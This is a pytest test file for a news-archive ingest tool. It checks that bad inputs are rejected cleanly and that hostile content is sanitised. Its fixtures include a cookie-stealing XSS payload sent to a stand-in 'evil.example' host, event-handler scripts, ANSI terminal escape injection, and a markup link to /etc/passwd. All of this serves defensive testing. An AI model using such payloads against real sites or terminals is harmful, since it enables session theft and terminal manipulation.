"""Bad and hostile input through the real command line.

Every input the ingest cannot use gets exactly one line on stderr naming it,
with a reason a user can act on; the batch goes on; no traceback ever reaches
the user; the exit status is 0 when at least one article was stored or was
already known and non-zero otherwise.

The inputs are generated here (deterministically) in pytest's tmp_path; the
CLI runs in-process (conftest.invoke_cli), and as a real process where standard
input comes through a pipe.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import re
import sqlite3
import subprocess
import zipfile
from pathlib import Path

import pytest

from .conftest import invoke_cli, run_as_process

MAX_BYTES = 20_000
ESC = "\x1b"


# --- helpers -------------------------------------------------------------------


def run_cli(*args, stdin: bytes | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """`newsprism ARGS` in-process; stdout and stderr as bytes, as a process gives them."""
    return invoke_cli(*args, input=stdin, cwd=cwd, text=False)


def text_of(stream: bytes) -> str:
    return stream.decode("utf-8", "replace")


def stored(db: Path) -> list[dict]:
    result = run_cli("articles", "--db", db, "--json")
    assert result.returncode == 0, text_of(result.stderr)
    articles = json.loads(result.stdout)
    assert isinstance(articles, list)
    return articles


def by_source(db: Path) -> dict[str, dict]:
    return {a["source_path"]: a for a in stored(db)}


def lines_about(stderr: str, path: str | Path) -> list[str]:
    """Lines naming `path` (the file itself, or a record of it: `path:3`, `path#item2`, `path[0]`)."""
    pattern = re.compile(re.escape(str(path)) + r"(?=[:#\[])")
    return [line for line in stderr.splitlines() if pattern.search(line)]


def assert_one_line(stderr: str, path: str | Path, *reasons: str) -> str:
    """Exactly one line names `path`, and it says one of `reasons` (case-insensitive)."""
    lines = lines_about(stderr, path)
    assert len(lines) == 1, f"expected one line about {path}, got {lines!r}\n--- stderr ---\n{stderr}"
    line = lines[0]
    assert any(reason.lower() in line.lower() for reason in reasons), f"{line!r} gives none of {reasons}"
    return line


def assert_clean_stderr(stderr: str) -> None:
    assert "Traceback" not in stderr, stderr
    assert "internal error" not in stderr, stderr
    assert ESC not in stderr, f"a raw escape character reached the terminal: {stderr!r}"


# --- input builders ----------------------------------------------------------------

GOOD_TEXT = (
    "Harbour Ferry Returns After Winter Repairs\n\n"
    "The harbour ferry returned to service on Monday after four months of repairs to its engines, "
    "the port authority said.\n\n"
    "Commuters queued from early morning, and the first crossing left ten minutes late."
)


def png_bytes(rng: random.Random) -> bytes:
    header = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"
    return header + rng.randbytes(3000)


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("story.txt", "The council met on Tuesday to discuss the new library. " * 40)
    return buffer.getvalue()


def page(n: int, topic: str) -> bytes:
    return (
        f"<html><head><title>{topic} headline {n}</title></head><body><article>"
        f"<h1>{topic} headline {n}</h1>"
        f"<p>Paragraph one of archived page {n}: the {topic} was discussed by the regional assembly, "
        f"which voted to fund it for another {n + 2} years despite objections from the opposition.</p>"
        f"<p>Paragraph two of archived page {n}: residents interviewed near the {topic} said they "
        f"welcomed the decision but worried about the noise during construction.</p>"
        "</article></body></html>"
    ).encode()


def warc_bytes(pages: list[bytes], base: str, *, compress: bool = True) -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buffer = io.BytesIO()
    writer = WARCWriter(buffer, gzip=compress)
    for n, payload in enumerate(pages):
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        record = writer.create_warc_record(
            f"{base}/page/{n}", "response", payload=io.BytesIO(payload), http_headers=headers
        )
        writer.write_record(record)
    return buffer.getvalue()


def rss(items: list[tuple[str, str]], title: str = "Valley Gazette") -> str:
    body = "".join(
        f"<item><title>{t}</title><link>https://gazette.example.com/{t.lower().replace(' ', '-')}</link>"
        f"<description>{d}</description></item>"
        for i, (t, d) in enumerate(items)
    )
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>{title}</title>{body}'
            "</channel></rss>")


HOSTILE_HTML = """<!DOCTYPE html>
<html lang="en"><head><title>Storm Closes Mountain Pass</title>
<style>body { background: url(javascript:stealCookies()) } .secret-style-rule { color: red }</style>
<script>alert(1); document.location = "https://evil.example/?c=" + document.cookie;</script>
<script src="https://evil.example/tracker.js"></script>
</head>
<body onload="stealCookies()">
<article>
<h1>Storm Closes Mountain Pass</h1>
<p>A late-season storm closed the mountain pass on Wednesday, stranding dozens of lorries overnight,
the regional road agency said.</p>
<script>window.evilInlineScript = true; alert(2);</script>
<p onclick="alert(3)">Snowploughs were expected to reopen one lane by Thursday morning, weather permitting,
and drivers were advised to carry chains.</p>
<noscript>Please enable JavaScript to see comments.</noscript>
<img src="x" onerror="alert(4)">
</article>
</body></html>
"""

SCRIPT_ONLY_HTML = """<html><head><title></title>
<script>var tracking = {id: 12345}; function go() { alert("x"); }</script>
<style>div { display: none }</style></head>
<body onload="go()"><div></div><script>go();</script></body></html>
"""


def json_line(**fields) -> str:
    return json.dumps(fields, ensure_ascii=False) + "\n"


def build_batch(root: Path) -> dict[str, Path]:
    """Every bad and good input of the main batch; returns name -> path."""
    rng = random.Random(1234)
    files: dict[str, bytes] = {}

    # Binary files.
    files["random.bin"] = rng.randbytes(4096)
    files["picture.png"] = png_bytes(rng)
    files["really-a-zip.txt"] = zip_bytes()
    # Empty and whitespace-only files.
    files["empty.txt"] = b""
    files["blank.md"] = b"  \n\n\t \r\n   \n"
    # Over the size limit.
    files["huge.txt"] = ("The parliament debated the budget late into the night. " * 600).encode()
    # Undecodable: high bytes that make no text in any encoding.
    files["undecodable.txt"] = bytes(rng.randrange(0x80, 0x100) for _ in range(3000))
    # Malformed JSON, and JSON holding no record.
    files["broken.json"] = b'{"title": "Unfinished", "text": "This record never'
    files["number.json"] = b"42\n"
    files["deep.json"] = b"[" * 9_000 + b"]" * 9_000
    # JSON Lines: good, broken, not an object, no text, good.
    files["mixed.jsonl"] = (
        json_line(title="Tram Line Extension Approved", url="https://metro.example.com/tram",
                  text="The city approved the tram line extension on Thursday"
                       " after a long debate in the council chamber.")
        + '{"title": "Broken", "text": \n'
        + "[1, 2, 3]\n"
        + json_line(title="Record without any text", url="https://metro.example.com/empty")
        + '{"text": "nested", "x": ' + "[" * 9_000 + "]" * 9_000 + "}\n"
        + json_line(title="Museum Reopens Its East Wing", url="https://metro.example.com/museum",
                    text="The museum reopened its east wing on Friday, two years after a fire damaged the roof.")
    ).encode()
    # JSON Lines with one record over --max-bytes among good ones.
    files["oversized.jsonl"] = (
        json_line(title="Bakery Wins Regional Prize", url="https://town.example.com/bakery",
                  text="A family bakery won the regional bread prize on Sunday for its rye loaf.")
        + json_line(title="Giant Record", url="https://town.example.com/giant", text="word " * (MAX_BYTES // 4))
        + json_line(title="Bus Timetable Changes", url="https://town.example.com/bus",
                    text="The bus company will change its weekend timetable from next month, adding late services.")
    ).encode()
    # Feeds: truncated XML, no items.
    files["truncated.rss"] = rss([
        ("Flood Warning Lifted", "The flood warning for the river valley was lifted on Saturday as water levels fell."),
    ])[:170].encode()
    files["cut-feed.rss"] = rss([
        ("Ferry Fares Frozen", "Ferry fares will stay at this year's level until next summer, the operator said."),
        ("Harbour Crane Delivered", "A new container crane arrived at the harbour by barge on Sunday morning."),
        ("Lighthouse Keeper Retires", "The last keeper of the island lighthouse retired after forty years of service."),
    ]).encode()[:-120]
    files["no-items.rss"] = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Empty Feed</title>'
        "<link>https://empty.example.com/</link><description>Nothing here</description></channel></rss>"
    ).encode()
    # WARC: truncated gzip archive (a good record, then the cut), a few bytes of one, garbage named .warc.
    archive = warc_bytes([page(0, "wind farm"), page(1, "toll road"), page(2, "ring road")], "https://archive.example.net")
    files["cut.warc.gz"] = archive[: len(archive) * 5 // 6]
    files["stub.warc.gz"] = archive[:100]
    plain = warc_bytes([page(3, "tunnel"), page(4, "airport"), page(5, "canal")], "https://plain.example.net",
                       compress=False)
    files["cut-plain.warc"] = plain[: len(plain) * 5 // 6]
    files["garbage.warc"] = b"This is not a web archive, just some words in a file named like one.\n" * 20
    # WARC with one page over --max-bytes.
    files["bigpage.warc.gz"] = warc_bytes([
        b"<html><body><article><p>" + b"filler words " * 2000 + b"</p></article></body></html>",
        page(7, "harbour crane"),
    ], "https://other.example.net")
    # HTML with scripts, styles and handlers; HTML with no article text.
    files["hostile.html"] = HOSTILE_HTML.encode()
    files["scripts-only.html"] = SCRIPT_ONLY_HTML.encode()
    # Good files and encodings.
    files["good.txt"] = GOOD_TEXT.encode()
    files["cp1252-quotes.txt"] = (
        "Mayor Vows To Rebuild Pier\n\n"
        "The mayor said \u201cwe will rebuild it stone by stone\u201d on Monday, and the town\u2019s "
        "fishermen cheered \u2013 though some doubted the budget would stretch that far\u2026"
    ).encode("cp1252")
    files["cp1252-plain.txt"] = (
        "Harbour Wall Repairs Begin\n\n"
        "The harbour master said \u201cthe wall will hold\u201d on Monday, and the town\u2019s "
        "boat owners said they hoped he was right. Work starts next week."
    ).encode("cp1252")
    files["cp1252-french.txt"] = (
        "Le caf\u00e9 de la gare rouvre ses portes\n\n"
        "Le caf\u00e9 o\u00f9 l\u2019on d\u00eene pr\u00e8s de la gare a rouvert lundi apr\u00e8s des travaux "
        "qui ont dur\u00e9 six mois, a indiqu\u00e9 la mairie."
    ).encode("cp1252")
    files["utf16.txt"] = (
        "Zo\u00eb Opens the New Museum\n\n"
        "The new museum, opened by Zo\u00eb Gr\u00fcnewald on Tuesday, shows \u201cmodern\u201d art "
        "from the region\u2019s painters."
    ).encode("utf-16")
    files["utf8-cut.txt"] = (
        "Council Approves Cycle Lanes\n\n"
        "The council said \u201cthe cycle lanes will be finished by spring\u201d after a vote on "
        "Wednesday. Caf\u00e9 owners on the main street welcomed the plan. \u201c"
    ).encode("utf-8")[:-1]
    files["script-record.json"] = json.dumps({
        "url": "https://hill.example.com/observatory",
        "html": "<html><body><script>alert('json')</script><article><h1>Observatory Opens to the Public</h1>"
                "<p>The hilltop observatory opened to the public on Saturday, with evening tours every weekend "
                "through the summer.</p><style>.x{color:red}</style></article></body></html>",
    }).encode()
    files["script-feed.rss"] = rss([
        ("Orchard Harvest Begins",
         "&lt;p&gt;The apple harvest began early this year in the northern orchards, growers said.&lt;/p&gt;"
         "&lt;script&gt;alert('feed')&lt;/script&gt;"),
    ]).encode()
    # Hostile text: ANSI escapes and rich markup in the content and in the file name.
    files[f"ansi-{ESC}[31m[bold red]loud.txt"] = (
        f"{ESC}[31mCanal Lock [bold red]Reopens[/bold red]{ESC}[0m\n\n"
        f"The canal lock {ESC}[2Jreopened on Thursday{ESC}]0;pwned{chr(7)} after repairs, "
        "[link=https://evil.example]the waterways trust[/link] said."
    ).encode()
    files[f"markup-[bold]{ESC}[5mblink.bin"] = b"\x00\x01\x02\x03" * 100

    paths = {}
    for name, data in files.items():
        path = root / name
        path.write_bytes(data)
        paths[name] = path
    # A directory holding a bad and a good file.
    folder = root / "folder"
    (folder / "sub").mkdir(parents=True)
    (folder / "sub" / "junk.dat").write_bytes(b"\x00\xff\xfe\x00" * 64)
    (folder / "sub" / "story.md").write_text(
        "# Night Trains Return\n\n"
        "Night trains between the two capitals return in December, the rail operator said on Friday.\n",
        encoding="utf-8",
    )
    paths["folder"] = folder
    paths["missing"] = root / "does-not-exist.txt"
    return paths


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """One ingest of every input above, in one call, as a user would run it."""
    root = tmp_path_factory.mktemp("batch")
    paths = build_batch(root)
    db = root / "store" / "news.sqlite"
    result = run_cli("ingest", *paths.values(), "--db", db, "--max-bytes", MAX_BYTES, "--json")
    stderr = text_of(result.stderr)
    return {
        "paths": paths,
        "db": db,
        "result": result,
        "stderr": stderr,
        "summary": json.loads(result.stdout) if result.stdout.strip() else None,
        "articles": by_source(db),
    }


# --- the main batch ---------------------------------------------------------------


def test_batch_goes_on_and_exits_0(batch):
    assert_clean_stderr(batch["stderr"])
    assert batch["result"].returncode == 0, batch["stderr"]
    summary = batch["summary"]
    assert set(summary) >= {"new", "duplicate", "linked", "skipped", "rejected", "article_ids", "db"}
    assert summary["new"] == len(batch["articles"])
    assert summary["duplicate"] == 0
    assert len(summary["article_ids"]) == summary["new"]
    assert Path(summary["db"]) == batch["db"]
    # Every stderr line is one of: a rejection, a skipped-records note, the summary.
    for line in batch["stderr"].splitlines():
        assert line.startswith(("rejected: ", "skipped: ", "newsprism: ")), repr(line)
    summary_line = rf"newsprism: {summary['new']} new, 0 duplicate, {len(summary['rejected'])} rejected"
    assert re.search(summary_line, batch["stderr"])


@pytest.mark.parametrize(
    "name, reasons",
    [
        ("random.bin", ["binary"]),
        ("picture.png", ["binary"]),
        ("really-a-zip.txt", ["binary"]),
        ("empty.txt", ["empty"]),
        ("blank.md", ["empty"]),
        ("undecodable.txt", ["undecodable"]),
        ("broken.json", ["malformed JSON"]),
        ("number.json", ["not a record"]),
        ("deep.json", ["malformed JSON"]),
        ("truncated.rss", ["malformed feed"]),
        ("no-items.rss", ["no items"]),
        ("stub.warc.gz", ["malformed WARC"]),
        ("garbage.warc", ["malformed WARC"]),
        ("scripts-only.html", ["no article text"]),
        ("missing", ["no such file"]),
    ],
)
def test_bad_file_gets_one_line_with_its_reason(batch, name, reasons):
    path = batch["paths"][name]
    assert_one_line(batch["stderr"], path, *reasons)
    assert not any(source.startswith(str(path)) for source in batch["articles"])
    assert str(path) in {r["source_path"].split("#")[0] for r in batch["summary"]["rejected"]}


def test_file_over_max_bytes(batch):
    path = batch["paths"]["huge.txt"]
    line = assert_one_line(batch["stderr"], path, "too large")
    assert "limit" in line and "--max-bytes" in line
    assert f"{path.stat().st_size:,}" in line and f"{MAX_BYTES:,}" in line


def test_jsonl_record_over_max_bytes_among_good_ones(batch):
    path = batch["paths"]["oversized.jsonl"]
    line = assert_one_line(batch["stderr"], path, "limit")
    assert line.startswith(f"rejected: {path}:2: ")
    titles = {batch["articles"][f"{path}:{n}"]["title"] for n in (1, 3)}
    assert titles == {"Bakery Wins Regional Prize", "Bus Timetable Changes"}
    assert f"{path}:2" not in batch["articles"]


def test_jsonl_bad_lines_are_each_reported_and_good_lines_kept(batch):
    path = batch["paths"]["mixed.jsonl"]
    lines = lines_about(batch["stderr"], path)
    assert len(lines) == 4, lines
    assert lines[0].startswith(f"rejected: {path}:2: malformed JSON")
    assert lines[1].startswith(f"rejected: {path}:3: ") and "not a JSON object" in lines[1]
    assert lines[2].startswith(f"rejected: {path}:4: ") and "no text" in lines[2]
    assert lines[3].startswith(f"rejected: {path}:5: malformed JSON")
    assert batch["articles"][f"{path}:1"]["title"] == "Tram Line Extension Approved"
    assert batch["articles"][f"{path}:6"]["title"] == "Museum Reopens Its East Wing"
    assert batch["articles"][f"{path}:6"]["url"] == "https://metro.example.com/museum"


@pytest.mark.parametrize("name", ["cut.warc.gz", "cut-plain.warc"])
def test_truncated_warc_keeps_whole_records_and_says_it_is_malformed(batch, name):
    path = batch["paths"][name]
    assert_one_line(batch["stderr"], path, "malformed WARC")
    kept = sorted(source for source in batch["articles"] if source.startswith(f"{path}#"))
    assert kept, "the complete records before the cut must be stored"
    assert len(kept) < 3
    for source in kept:
        article = batch["articles"][source]
        assert re.fullmatch(r"https://(archive|plain)\.example\.net/page/\d", article["url"])
        assert "Paragraph two of archived page" in article["text"]


def test_cut_off_feed_keeps_its_whole_items(batch):
    path = batch["paths"]["cut-feed.rss"]
    line = assert_one_line(batch["stderr"], path, "malformed feed")
    assert "2 of 3 items read" in line
    assert batch["articles"][f"{path}#item1"]["title"] == "Ferry Fares Frozen"
    assert batch["articles"][f"{path}#item2"]["title"] == "Harbour Crane Delivered"
    assert f"{path}#item3" not in batch["articles"]


def test_warc_page_over_max_bytes(batch):
    path = batch["paths"]["bigpage.warc.gz"]
    line = assert_one_line(batch["stderr"], path, "limit")
    assert line.startswith(f"rejected: {path}#record1: ")
    assert batch["articles"][f"{path}#record2"]["url"] == "https://other.example.net/page/1"


def test_html_scripts_styles_and_handlers_are_not_stored(batch):
    article = batch["articles"][str(batch["paths"]["hostile.html"])]
    assert article["title"] == "Storm Closes Mountain Pass"
    assert "stranding dozens of lorries overnight" in article["text"]
    assert "drivers were advised to carry chains" in article["text"]
    stored_text = json.dumps(article)
    for code in ("alert(", "document.cookie", "stealCookies", "evilInlineScript", "secret-style-rule",
                 "tracker.js", "onload", "onclick", "onerror", "<script", "javascript:", "enable JavaScript"):
        assert code not in stored_text, code


def test_scripts_in_json_html_and_feed_items_are_not_stored(batch):
    record = batch["articles"][str(batch["paths"]["script-record.json"])]
    assert "opened to the public on Saturday" in record["text"]
    assert "alert" not in record["text"] and "color:red" not in record["text"]
    item = batch["articles"][f"{batch['paths']['script-feed.rss']}#item1"]
    assert item["title"] == "Orchard Harvest Begins"
    assert "apple harvest began early" in item["text"]
    assert "alert" not in item["text"] and "<" not in item["text"]


def test_good_text_file_in_the_bad_batch_is_stored(batch):
    article = batch["articles"][str(batch["paths"]["good.txt"])]
    assert article["title"] == "Harbour Ferry Returns After Winter Repairs"
    assert article["text"].startswith("The harbour ferry returned to service on Monday")
    assert not lines_about(batch["stderr"], batch["paths"]["good.txt"])


def test_windows_1252_is_decoded(batch):
    quotes = batch["articles"][str(batch["paths"]["cp1252-quotes.txt"])]
    assert quotes["title"] == "Mayor Vows To Rebuild Pier"
    assert "\u201cwe will rebuild it stone by stone\u201d" in quotes["text"]
    assert "the town\u2019s fishermen cheered \u2013 though" in quotes["text"]
    assert quotes["text"].endswith("stretch that far\u2026")
    plain = batch["articles"][str(batch["paths"]["cp1252-plain.txt"])]
    assert plain["title"] == "Harbour Wall Repairs Begin"
    assert plain["text"].startswith(
        "The harbour master said \u201cthe wall will hold\u201d on Monday, and the town\u2019s boat")
    french = batch["articles"][str(batch["paths"]["cp1252-french.txt"])]
    assert french["title"] == "Le caf\u00e9 de la gare rouvre ses portes"
    assert "Le caf\u00e9 o\u00f9 l\u2019on d\u00eene pr\u00e8s de la gare a rouvert lundi apr\u00e8s" in french["text"]


def test_utf16_with_bom_is_decoded(batch):
    article = batch["articles"][str(batch["paths"]["utf16.txt"])]
    assert article["title"] == "Zo\u00eb Opens the New Museum"
    assert "opened by Zo\u00eb Gr\u00fcnewald on Tuesday, shows \u201cmodern\u201d art" in article["text"]
    assert "\x00" not in article["text"] and "\ufeff" not in article["text"]


def test_utf8_cut_in_the_middle_of_a_character_is_still_utf8(batch):
    article = batch["articles"][str(batch["paths"]["utf8-cut.txt"])]
    assert article["title"] == "Council Approves Cycle Lanes"
    assert "\u201cthe cycle lanes will be finished by spring\u201d" in article["text"]
    assert "Caf\u00e9 owners" in article["text"]


def test_undecodable_bytes_are_not_stored_as_garbage(batch):
    path = batch["paths"]["undecodable.txt"]
    assert str(path) not in batch["articles"]
    line = assert_one_line(batch["stderr"], path, "undecodable")
    assert "binary" not in line.lower()


def test_ansi_escapes_and_markup_are_harmless(batch):
    name = next(n for n in batch["paths"] if n.startswith("ansi-"))
    path = batch["paths"][name]
    article = batch["articles"][str(path)]  # the stored path is the real one
    for field in ("title", "text"):
        assert ESC not in article[field] and "\x07" not in article[field]
    assert "Canal Lock" in article["title"] and "Reopens" in article["title"]
    assert "reopened on Thursday" in article["text"]
    # Markup is text, not formatting: it is stored as written.
    assert "[link=https://evil.example]the waterways trust[/link]" in article["text"]


def test_bad_file_with_hostile_name_is_reported_on_one_safe_line(batch):
    name = next(n for n in batch["paths"] if n.startswith("markup-"))
    shown = str(batch["paths"][name]).replace(ESC, "\\x1b")
    lines = [line for line in batch["stderr"].splitlines() if "markup-[bold]" in line]
    assert len(lines) == 1, batch["stderr"]
    assert lines[0] == f"rejected: {shown}: binary file, not a news format (text, HTML, JSON, feed or WARC)"


def test_directory_with_bad_and_good_file(batch):
    folder = batch["paths"]["folder"]
    assert_one_line(batch["stderr"], folder / "sub" / "junk.dat", "binary")
    article = batch["articles"][str(folder / "sub" / "story.md")]
    assert article["title"] == "Night Trains Return"


def test_every_rejection_in_the_summary_is_on_stderr(batch):
    stderr_lines = batch["stderr"].splitlines()
    for rejection in batch["summary"]["rejected"]:
        shown = rejection["source_path"].replace(ESC, "\\x1b")
        assert f"rejected: {shown}: {rejection['reason']}" in stderr_lines
    assert sum(line.startswith("rejected: ") for line in stderr_lines) == len(batch["summary"]["rejected"])


def test_database_is_sound_after_the_batch(batch):
    with sqlite3.connect(batch["db"]) as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        db.execute("INSERT INTO articles_fts(articles_fts) VALUES('integrity-check')")
        assert db.execute("SELECT count(*) FROM articles").fetchone()[0] == len(batch["articles"])


# --- exit status and separate runs ---------------------------------------------------


def test_only_bad_inputs_exit_non_zero(tmp_path):
    (tmp_path / "a.bin").write_bytes(bytes(range(256)) * 4)
    (tmp_path / "b.txt").write_bytes(b"")
    (tmp_path / "c.json").write_bytes(b"{oops")
    (tmp_path / "d.rss").write_bytes(b"<?xml version='1.0'?><rss><channel><title>x</title><item><title>y")
    db = tmp_path / "db" / "x.sqlite"
    result = run_cli("ingest", *(tmp_path / n for n in ("a.bin", "b.txt", "c.json", "d.rss")), "--db", db, "--json")
    stderr = text_of(result.stderr)
    assert_clean_stderr(stderr)
    assert result.returncode == 1
    assert_one_line(stderr, tmp_path / "a.bin", "binary")
    assert_one_line(stderr, tmp_path / "b.txt", "empty")
    assert_one_line(stderr, tmp_path / "c.json", "malformed JSON")
    assert_one_line(stderr, tmp_path / "d.rss", "malformed feed")
    summary = json.loads(result.stdout)
    assert (summary["new"], summary["duplicate"], len(summary["rejected"])) == (0, 0, 4)
    assert summary["article_ids"] == []
    assert stored(db) == []


def test_nonexistent_path_alone(tmp_path):
    missing = tmp_path / "nowhere" / "story.txt"
    result = run_cli("ingest", missing, "--db", tmp_path / "x.sqlite")
    stderr = text_of(result.stderr)
    assert_clean_stderr(stderr)
    assert result.returncode != 0
    assert_one_line(stderr, missing, "no such file")


def test_same_ingest_twice(tmp_path):
    (tmp_path / "one.txt").write_text(GOOD_TEXT, encoding="utf-8")
    (tmp_path / "two.jsonl").write_text(
        json_line(title="Reservoir Levels Rise", url="https://water.example.com/1",
                  text="Reservoir levels rose for the third week in a row after heavy rain in the hills.")
        + json_line(title="New Footbridge Opens", url="https://water.example.com/2",
                    text="A new footbridge over the river opened on Sunday, linking the two halves of the park."),
        encoding="utf-8",
    )
    (tmp_path / "bad.bin").write_bytes(b"\x00" * 50)
    db = tmp_path / "x.sqlite"
    args = ("ingest", tmp_path / "one.txt", tmp_path / "two.jsonl", tmp_path / "bad.bin", "--db", db)
    first = run_cli(*args, "--json")
    assert first.returncode == 0, text_of(first.stderr)
    first_summary = json.loads(first.stdout)
    assert (first_summary["new"], first_summary["duplicate"]) == (3, 0)

    again = run_cli(*args)
    stderr = text_of(again.stderr)
    assert_clean_stderr(stderr)
    assert again.returncode == 0
    assert "newsprism: 0 new, 3 duplicate, 1 rejected" in stderr
    assert_one_line(stderr, tmp_path / "bad.bin", "binary")

    third = run_cli(*args, "--json", "--quiet")
    assert third.returncode == 0
    summary = json.loads(third.stdout)
    assert set(summary) >= {"new", "duplicate", "linked", "skipped", "rejected", "article_ids", "db"}
    assert (summary["new"], summary["duplicate"], summary["linked"]) == (0, 3, 0)
    assert summary["article_ids"] == first_summary["article_ids"]
    assert [r["source_path"] for r in summary["rejected"]] == [str(tmp_path / "bad.bin")]
    assert len(stored(db)) == 3


def test_stdin(tmp_path):
    db = tmp_path / "x.sqlite"
    # a real process: standard input through a pipe, as `cat file | newsprism ingest -` gives it
    good = run_as_process("ingest", "-", "--db", db, input=GOOD_TEXT.encode("utf-16"))
    assert good.returncode == 0, text_of(good.stderr)
    assert_clean_stderr(text_of(good.stderr))
    [article] = stored(db)
    assert article["source_path"] == "<stdin>"
    assert article["title"] == "Harbour Ferry Returns After Winter Repairs"

    feed = rss([("Stdin Feed Item", "A story about the lighthouse restoration read from standard input.")])
    result = run_cli("ingest", "-", "--db", db, "--json", stdin=feed.encode())
    assert result.returncode == 0
    assert json.loads(result.stdout)["new"] == 1

    bad_inputs = ((b"\x89PNG\r\n\x1a\n" + bytes(200), "binary"), (b"", "empty"), (b"{\"text\": ", "malformed JSON"))
    for data, reason in bad_inputs:
        bad = run_cli("ingest", "-", "--db", db, stdin=data)
        stderr = text_of(bad.stderr)
        assert_clean_stderr(stderr)
        assert bad.returncode == 1, (data, stderr)
        assert_one_line(stderr, "<stdin>", reason)

    big = run_cli("ingest", "-", "--db", db, "--max-bytes", 1000, stdin=("Words of a long story. " * 100).encode())
    assert big.returncode == 1
    assert_one_line(text_of(big.stderr), "<stdin>", "too large")


def test_hostile_title_is_displayed_safely(tmp_path):
    """Stored titles with markup print as text; the CLI does not crash on them."""
    db = tmp_path / "x.sqlite"
    data = json_line(title=f"{ESC}[31m[bold red]Red alert[/] [link=file:///etc/passwd]click[/link]",
                     url="https://safe.example.com/1",
                     text=f"Text with {ESC}[1mbold escapes{ESC}[0m and [blink]markup[/blink] about the county fair.")
    (tmp_path / "h.jsonl").write_text(data, encoding="utf-8")
    result = run_cli("ingest", tmp_path / "h.jsonl", "--db", db)
    assert result.returncode == 0, text_of(result.stderr)
    [article] = stored(db)
    assert ESC not in article["title"] and ESC not in article["text"]
    assert "[bold red]Red alert[/]" in article["title"]
    for command in (("articles", "--db", db), ("article", article["id"], "--db", db),
                    ("articles", "--db", db, "--format", "markdown")):
        shown = run_cli(*command)
        assert shown.returncode == 0, text_of(shown.stderr)
        assert "Traceback" not in text_of(shown.stderr)
        assert ESC.encode() not in shown.stdout
    shown = run_cli("article", article["id"], "--db", db)
    assert "[bold red]Red alert[/]" in text_of(shown.stdout)


def test_truncated_jsonl_gz(tmp_path):
    lines = "".join(
        json_line(title=f"Market Report {n}", url=f"https://market.example.com/{n}",
                  text=f"Report number {n}: stall holders at the {['north', 'south', 'east'][n % 3]} market said "
                       f"trade was {['brisk', 'slow', 'steady'][n % 3]} on day {n} of the spring fair.")
        for n in range(200)
    )
    data = gzip.compress(lines.encode())
    path = tmp_path / "cut.jsonl.gz"
    path.write_bytes(data[: len(data) // 2])
    db = tmp_path / "x.sqlite"
    result = run_cli("ingest", path, "--db", db, "--json")
    stderr = text_of(result.stderr)
    assert_clean_stderr(stderr)
    assert result.returncode == 0
    assert_one_line(stderr, path, "unreadable", "truncated", "malformed")
    kept = stored(db)
    assert 0 < len(kept) < 200
    assert json.loads(result.stdout)["new"] == len(kept)


def test_an_unforeseen_failure_in_one_input_does_not_stop_the_batch(tmp_path, monkeypatch):
    """The safety net behind the readers: a bug triggered by one input costs that input only."""
    import importlib

    import newsprism

    ingest_module = importlib.import_module("newsprism.ingest")

    real_normalize = ingest_module.normalize

    def fragile_normalize(raw):
        if "poison" in raw.body:
            raise ValueError("simulated bug\nover two lines")
        return real_normalize(raw)

    monkeypatch.setattr(ingest_module, "normalize", fragile_normalize)
    monkeypatch.delenv("NEWSPRISM_DEBUG", raising=False)
    (tmp_path / "a.txt").write_text("Poison Pill\n\nThis poison text triggers the simulated bug in the pipeline.",
                                    encoding="utf-8")
    (tmp_path / "b.txt").write_text(GOOD_TEXT, encoding="utf-8")
    with newsprism.open_store(str(tmp_path / "x.sqlite")) as store:
        report = newsprism.ingest(store, [tmp_path / "a.txt", tmp_path / "b.txt"])
        assert report.new == 1
        assert [(r.source_path, r.reason) for r in report.rejected] == [
            (str(tmp_path / "a.txt"), "cannot process: ValueError: simulated bug over two lines")
        ]
        assert [a.title for a in store.articles()] == ["Harbour Ferry Returns After Winter Repairs"]


def test_utf8_with_one_stray_byte_keeps_the_article():
    """One corrupt byte in a UTF-8 article costs that byte, not the article."""
    from newsprism.read.decode import decode_bytes

    data = "Zoë said “hello” to Renée and left.".encode("utf-8") + b"\xff" + b" More text here."
    assert decode_bytes(data) == "Zoë said “hello” to Renée and left.\ufffd More text here."


def test_json_of_the_wrong_kind_is_named_plainly():
    from newsprism.read.records import read_json

    (rejection,) = read_json(b"42", "n.json")
    assert rejection.reason == "JSON holds a number, not a record or a list of records"
